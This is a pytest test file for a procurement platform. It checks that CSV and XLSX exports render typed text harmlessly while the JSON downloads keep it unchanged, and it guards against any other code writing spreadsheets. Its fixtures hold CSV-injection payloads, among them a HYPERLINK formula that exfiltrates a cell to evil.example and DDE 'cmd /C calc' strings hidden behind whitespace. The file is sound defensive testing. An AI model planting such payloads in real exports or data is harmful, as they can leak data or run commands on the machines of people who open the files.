"""Every CSV and XLSX the platform produces, opened as an analyst or a buyer would open it: text
someone typed (a supplier's or subcontractor's name, a tender title, a document title) never
opens as a live formula, whichever field it came from, while the JSON keeps the true text. And a
guard: nothing in the project writes a spreadsheet except levelfield.core.spreadsheets, so a new
export cannot skip the rule."""

import ast
import csv
import gzip
import io
import json
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from levelfield.accounts.models import Role
from levelfield.bids import actions as bid_actions
from levelfield.contracts import actions as contract_actions
from levelfield.core import clock
from levelfield.opendata import downloads
from levelfield.opendata.models import DownloadFile, Record
from levelfield.suppliers import actions as supplier_actions
from levelfield.suppliers import selectors as supplier_selectors
from levelfield.suppliers.models import Size
from levelfield.tenders import actions as tender_actions
from levelfield.tenders.models import TenderDocument
from tests.support import testing

pytestmark = pytest.mark.django_db

PROJECT = Path(__file__).resolve().parent.parent
SOURCE = PROJECT / "levelfield"
BACKEND = "django.contrib.auth.backends.ModelBackend"

# The two names of the issue, and names whose formula hides behind a tab, a carriage return or a
# space (each kept as typed: organisation names are not stripped).
SUPPLIER = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SUBCONTRACTOR = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB_SUPPLIER = "\t=1+2+cmd|' /C calc'!A0 Tab Ltd"
CR_SUBCONTRACTOR = "\r=3+4+cmd|' /C calc'!A0 Return Ltd"
TAB_SUBCONTRACTOR = "\t@SUM(5+6)*cmd|' /C calc'!A0 Tabbed Ltd"
SPACE_BUYER = " =5+6+cmd|' /C calc'!A0 Council"
# Every other free-text field that reaches an export, each with its own formula (actions strip
# leading whitespace from these, so each starts with a formula character itself).
FIELDS = {
    "tender title": "=7+8 tender title",
    "tender description": "+9+10 tender description",
    "lot title": "-11-12 lot title",
    "lot description": "@13 lot description",
    "question": "=14+15 question text",
    "document title": "＝16+17 document title",
    "subcontract description": "-18+19 subcontract description",
}
# A bidder that loses: named only in the evaluation report, its formula behind a space.
LOSER = " +20+21+cmd|' /C calc'!A0 Loser Ltd"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def formula_like(value) -> bool:
    """Whether a cell would start a formula: text starting with a formula character, at once or
    after whitespace, that is not a plain number."""
    if not isinstance(value, str) or NUMBER.fullmatch(value):
        return False
    return value.startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_STARTS)


# Reading the exports -------------------------------------------------------------------------


def xlsx_cells(content: bytes) -> list[openpyxl.cell.Cell]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def zip_csv_cells(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as zipped:
        assert zipped.namelist() and all(n.endswith(".csv") for n in zipped.namelist())
        return [
            cell for name in zipped.namelist() for cell in csv_cells(zipped.read(name).decode())
        ]


def assert_no_formula(export: str, values: list) -> None:
    dangerous = [value for value in values if formula_like(value)]
    assert dangerous == [], f"{export}: cells that would run as formulas: {dangerous[:5]}"


def assert_xlsx_safe(export: str, cells: list) -> list:
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == [], f"{export}: formula cells {formulas[:5]}"
    values = [cell.value for cell in cells]
    assert_no_formula(export, values)
    return values


# The published downloads and the views that answer with a spreadsheet ---------------------------

SPREADSHEET_DOWNLOADS = {
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": "xlsx",
    "application/zip": "csv zip",
}
NOT_SPREADSHEETS = {"application/gzip", "application/vnd.apache.parquet"}
# Every URL that answers with a spreadsheet, by URL name, and how to reach it for a tender.
SPREADSHEET_VIEWS = {"evaluation:report_csv": lambda tender: [tender.pk]}


def spreadsheet_url_names() -> set[str]:
    """The names of the URLs whose route ends in a spreadsheet's file name."""

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                yield from walk(pattern.url_patterns, inner)
            elif isinstance(pattern, URLPattern) and re.search(
                r"\.(csv|tsv|xlsx?|ods)\W*$", str(pattern.pattern)
            ):
                yield f"{namespace}{pattern.name}"

    return set(walk(get_resolver().url_patterns))


# The journey ---------------------------------------------------------------------------------


@pytest.fixture
def awarded(client):
    """A tender whose every free-text field carries a formula, bid for by a supplier named with
    one, awarded with two hostile subcontractors, the contract signed."""
    buyer = testing.buyer_org(SPACE_BUYER)
    officer = testing.member(buyer, Role.BUYER_OFFICER)
    admin = testing.member(buyer, Role.BUYER_ADMIN)
    evaluator = testing.member(buyer, Role.EVALUATOR)
    tender = testing.draft_tender(buyer=buyer, by=officer, title=FIELDS["tender title"])
    tender_actions.update_tender(
        tender=tender, by=officer, description=FIELDS["tender description"]
    )
    lot = tender.lots.get()
    tender_actions.update_lot(
        lot=lot, by=officer, title=FIELDS["lot title"], description=FIELDS["lot description"]
    )
    tender_actions.update_question(
        question=lot.questions.get(number=1), by=officer, text=FIELDS["question"]
    )
    tender_actions.add_document(
        tender=tender,
        by=officer,
        title=FIELDS["document title"],
        doc_type=TenderDocument.DocType.SPECIFICATION,
        upload=testing.pdf(),
    )
    tender = tender_actions.publish_tender(tender=tender, by=officer)
    lot = tender.lots.get()

    winner, winner_user = testing.supplier_with_user(SUPPLIER)
    loser, loser_user = testing.supplier_with_user(LOSER)
    tab, tab_user = testing.supplier_with_user(TAB_SUPPLIER)
    relied, _ = testing.supplier_with_user(CR_SUBCONTRACTOR, size=Size.MICRO)
    tabbed, _ = testing.supplier_with_user(TAB_SUBCONTRACTOR)
    bid = bid_actions.start_bid(lot=lot, supplier=winner, by=winner_user)
    answers = {q.pk: "Our answer." for q in lot.questions.all()}
    bid_actions.save_bid(bid=bid, by=winner_user, price=Decimal("90000"), answers=answers)
    supplier_actions.add_subcontractor(
        bid=bid,
        by=winner_user,
        name=SUBCONTRACTOR,
        size=Size.SMALL,
        share_percent=Decimal("5"),
        description=FIELDS["subcontract description"],
    )
    supplier_actions.add_subcontractor(
        bid=bid,
        by=winner_user,
        organisation=supplier_selectors.find_supplier(relied.supplier_profile.platform_identifier),
        name="",
        size="",
        share_percent=Decimal("2"),
        description="Transport.",
        relied_on=True,
    )
    supplier_actions.add_subcontractor(
        bid=bid,
        by=winner_user,
        organisation=supplier_selectors.find_supplier(tabbed.supplier_profile.platform_identifier),
        name="",
        size="",
        share_percent=Decimal("1"),
        description="Laundry.",
    )
    bid_actions.submit_bid(bid=bid, by=winner_user)
    others = [
        testing.submitted_bid(tender=tender, supplier=org, by=user, price=price)
        for org, user, price in ((loser, loser_user, "95000"), (tab, tab_user, "99000"))
    ]
    scores = {(bid.pk, q.number): 100 for q in lot.questions.all()}
    scores |= {(other.pk, q.number): 50 for other in others for q in lot.questions.all()}
    with testing.after_deadline(tender):
        tender_actions.open_evaluation(tender=tender, by=officer)
        testing.score_everything(tender=tender, officer=officer, evaluator=evaluator, scores=scores)
        contract_actions.confirm_award(tender=tender, by=admin)
        tender = contract_actions.publish_award_notice(tender=tender, by=officer)
        client.force_login(officer, backend=BACKEND)
        report = {
            name: client.get(reverse(name, args=args(tender)))
            for name, args in SPREADSHEET_VIEWS.items()
        }
    with clock.frozen_at(tender.standstill_ends_at):
        contract = contract_actions.record_contract(
            lot=lot,
            by=officer,
            value=Decimal("90000"),
            start_date=tender.contract_start,
            end_date=tender.contract_end,
        )
        contract_actions.sign_contract(contract=contract, by=admin)
    downloads.regenerate()
    return report


def served_name(download: downloads.Download) -> str:
    """The published name of `download`'s one file: a whole-set file, or a month's file of
    compiled releases (the award's procurement was first published in one month)."""
    names = list(DownloadFile.objects.filter(kind=download.key).values_list("name", flat=True))
    assert len(names) == 1, f"{download.key}: {names}"
    return names[0]


def published(client, download: downloads.Download) -> bytes:
    response = client.get(reverse("opendata:download", args=[served_name(download)]))
    assert response.status_code == 200, served_name(download)
    return b"".join(response.streaming_content)


# (a) The names, through a real award, to the published downloads ----------------------


def test_hostile_names_in_an_award_open_as_text_in_the_xlsx_download(awarded, client):
    cells = xlsx_cells(published(client, downloads.XLSX))

    values = assert_xlsx_safe("compiled-releases.xlsx", cells)
    for name in (SUPPLIER, SUBCONTRACTOR, TAB_SUBCONTRACTOR, CR_SUBCONTRACTOR, SPACE_BUYER):
        assert "'" + name in values, name  # readable, after the quote


def test_hostile_names_in_an_award_open_as_text_in_the_csv_download(awarded, client):
    cells = zip_csv_cells(published(client, downloads.CSV_ZIP))

    assert_no_formula("compiled-releases-csv.zip", cells)
    for name in (SUPPLIER, SUBCONTRACTOR, TAB_SUBCONTRACTOR, CR_SUBCONTRACTOR, SPACE_BUYER):
        assert "'" + name in cells, name


def test_the_downloads_page_says_spreadsheet_text_may_begin_with_a_quote(awarded, client):
    page = client.get(reverse("opendata:downloads")).content.decode()

    assert "text that would start a spreadsheet formula begins with a single quote" in page


def test_the_json_downloads_keep_the_true_names(awarded, client):
    with gzip.open(io.BytesIO(published(client, downloads.ALL_COMPILED))) as lines:
        compiled = [json.loads(line) for line in lines]

    assert compiled == list(Record.objects.order_by("ocid").values_list("compiled", flat=True))
    [release] = compiled
    names = {party["name"] for party in release["parties"]}
    assert {SUPPLIER, SUBCONTRACTOR, TAB_SUBCONTRACTOR, CR_SUBCONTRACTOR, SPACE_BUYER} <= names
    assert release["tender"]["title"] == FIELDS["tender title"]
    with gzip.open(io.BytesIO(published(client, downloads.ALL_RELEASES))) as lines:
        assert SUPPLIER in {
            party["name"] for line in lines for party in json.loads(line).get("parties", [])
        }


# (b) Every export the platform produces, every free-text field that reaches it ---------------


def test_every_export_opens_every_typed_field_as_text(awarded, client):
    seen: dict[str, list] = {}
    manifest = downloads.read_manifest()
    served = set(DownloadFile.objects.values_list("name", flat=True))
    assert {entry["name"] for entry in manifest["files"]} == served
    assert {download.key for download in downloads.DOWNLOADS} == set(
        DownloadFile.objects.values_list("kind", flat=True)
    ), "a kind of download was not built"
    for download in downloads.DOWNLOADS:
        kind = SPREADSHEET_DOWNLOADS.get(download.content_type)
        if kind is None:
            assert download.content_type in NOT_SPREADSHEETS, (
                f"{download.key} is a kind of download this test does not open: add it here"
            )
            continue
        name = served_name(download)
        content = published(client, download)
        if kind == "xlsx":
            seen[name] = assert_xlsx_safe(name, xlsx_cells(content))
        else:
            seen[name] = zip_csv_cells(content)
    assert spreadsheet_url_names() == set(SPREADSHEET_VIEWS), "a spreadsheet URL is not tested"
    for name, response in awarded.items():
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("text/csv")
        seen[name] = csv_cells(response.content.decode())

    for export, values in seen.items():
        assert_no_formula(export, values)
    text = {export: "\n".join(str(v) for v in values) for export, values in seen.items()}
    typed = {**FIELDS, "buyer": SPACE_BUYER, "bidder": TAB_SUPPLIER, "loser": LOSER}
    for field, value in typed.items():
        reached = [export for export, joined in text.items() if value.strip() in joined]
        assert reached, f"the {field} reached no export: the journey no longer tests it"
    # The evaluation report names every bidder and the lot, each made safe.
    report = set(seen["evaluation:report_csv"])
    for name in (SUPPLIER, LOSER, TAB_SUPPLIER, FIELDS["lot title"]):
        assert "'" + name in report, name


# The guard: one writer of spreadsheets ------------------------------------------------------

HELPER = SOURCE / "core" / "spreadsheets.py"
# Libraries that only write spreadsheets, or flatten JSON into them.
WRITING_LIBRARIES = {"flattentool", "xlsxwriter", "tablib", "pyexcel", "odf", "ezodf", "xlwt"}
WRITING_NAMES = {"writer", "DictWriter", "Workbook", "to_csv", "to_excel", "write_csv"}
# Content types and file names of spreadsheets, allowed only where the tests above reach them.
SPREADSHEET_TEXT = re.compile(
    r"text/csv|spreadsheetml|ms-excel|opendocument\.spreadsheet|\.(csv|tsv|xlsx?|ods)\b|"
    r"format\s*[=(]?\s*'?csv",
    re.IGNORECASE,
)
KNOWN_SPREADSHEET_TEXT = {
    "levelfield/core/spreadsheets.py": "the one writer",
    "levelfield/opendata/downloads.py": "the CSV zip and XLSX downloads, tested above",
    "levelfield/evaluation/views.py": "the evaluation report CSV, tested above",
    "levelfield/evaluation/urls.py": "the evaluation report CSV's URL",
    "levelfield/demo/data.py": "a CSV of measures the demo uploads, read not written",
    "levelfield/contracts/views_contract.py": "the contract register CSV and XLSX, opened with "
    "hostile names in contracts/tests/test_records_register.py",
    "levelfield/contracts/actions/payments_import.py": "reads a buyer's invoices from CSV (the "
    "name of the format it takes), writes none",
    "levelfield/resilience/financial_import.py": "reads suppliers' financial readings from CSV "
    "(the name of the format it takes), writes none",
    "levelfield/resilience/management/commands/import-financial-readings.py": "hands a CSV file "
    "to the readings import, writes none",
    "levelfield/resilience/views_team.py": "the concentration risk CSV, opened with a hostile "
    "supplier name in resilience/tests/test_team_pages.py",
    "levelfield/resilience/views_scenario_files.py": "the failure scenario report's CSV, opened "
    "with hostile names in resilience/tests/test_scenario_pages.py",
    "levelfield/insights/views_dashboards.py": "the insights dashboards' CSV downloads, opened "
    "with a hostile name in insights/tests/test_dashboards.py",
    "levelfield/reviews/views_public.py": "the published review outcomes' CSV, opened with "
    "hostile names in reviews/tests/test_exports_safe.py",
    "levelfield/reviews/views_respondent.py": "a respondent's review requests CSV, opened with "
    "hostile names in reviews/tests/test_exports_safe.py",
    "levelfield/insights/spend_import.py": "reads published spend files (CSV, XLSX: the names "
    "of the formats it takes), writes none",
    "levelfield/core/file_content.py": "tells an uploaded spreadsheet by its content (the names "
    "of the formats it checks), writes none",
    "levelfield/marketplace/views_reports.py": "the marketplace report's CSV, opened with hostile "
    "framework and lot names in tests/test_reports.py",
    "levelfield/marketplace/exports.py": "a project's frozen shortlist as CSV and XLSX, opened "
    "with hostile service, category and unit names in marketplace/tests/test_projects_pages.py",
    "levelfield/marketplace/views_buying.py": "the shortlist download's view (CSV, XLSX)",
}


def project_modules():
    for path in sorted(SOURCE.rglob("*.py")):
        relative = path.relative_to(PROJECT)
        if "tests" in relative.parts or "migrations" in relative.parts or path == HELPER:
            continue
        yield str(relative), ast.parse(path.read_text(), filename=str(path))


def spreadsheet_writing(tree: ast.AST) -> list[str]:
    """What in a module writes a spreadsheet without the helper."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            modules = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            modules += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            for module in modules:
                if module.split(".")[0] in WRITING_LIBRARIES:
                    found.append(f"line {node.lineno}: imports {module}")
            if isinstance(node, ast.ImportFrom) and node.module in {"csv", "openpyxl", "pandas"}:
                for alias in node.names:
                    if alias.name in WRITING_NAMES:
                        found.append(f"line {node.lineno}: imports {alias.name}")
        elif isinstance(node, ast.Attribute) and node.attr in WRITING_NAMES:
            if isinstance(node.value, ast.Name) and node.value.id in {"csv", "openpyxl", "pd"}:
                found.append(f"line {node.lineno}: {node.value.id}.{node.attr}")
            elif node.attr in {"to_csv", "to_excel", "write_csv"}:
                found.append(f"line {node.lineno}: .{node.attr}")
        elif isinstance(node, ast.Call) and getattr(node.func, "id", None) == "load_workbook":
            read_only = any(
                k.arg == "read_only" and getattr(k.value, "value", None) is True
                for k in node.keywords
            )
            if not read_only:
                found.append(f"line {node.lineno}: load_workbook without read_only=True")
    return found


def test_nothing_writes_a_spreadsheet_but_the_one_safe_helper():
    offenders = {
        module: found for module, tree in project_modules() if (found := spreadsheet_writing(tree))
    }

    assert offenders == {}, (
        "Write CSV and XLSX through levelfield.core.spreadsheets (csv_writer, flatten), which "
        f"neutralises formulas: {offenders}"
    )


def test_every_module_naming_a_spreadsheet_format_is_one_the_export_tests_open():
    naming = set()
    for module, tree in project_modules():
        for node in ast.walk(tree):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                if SPREADSHEET_TEXT.search(node.value):
                    naming.add(module)

    assert naming <= set(KNOWN_SPREADSHEET_TEXT), (
        f"{sorted(naming - set(KNOWN_SPREADSHEET_TEXT))} name a spreadsheet format: if they "
        "produce one, add it to test_every_export_opens_every_typed_field_as_text"
    )


def test_the_guard_catches_each_way_of_writing_a_spreadsheet():
    for source in (
        "import csv\nw = csv.writer(f)",
        "from csv import DictWriter",
        "import flattentool",
        "from flattentool import flatten",
        "import openpyxl\nopenpyxl.Workbook()",
        "from openpyxl import Workbook",
        "from openpyxl import load_workbook\nload_workbook(f)",
        "frame.to_csv(f)",
        "import xlsxwriter",
    ):
        assert spreadsheet_writing(ast.parse(source)), source
    for source in (
        "import csv\ncsv.reader(f)",
        "from openpyxl import load_workbook\nload_workbook(f, read_only=True, data_only=True)",
        "from levelfield.core import spreadsheets\nspreadsheets.csv_writer(f)",
    ):
        assert not spreadsheet_writing(ast.parse(source)), source
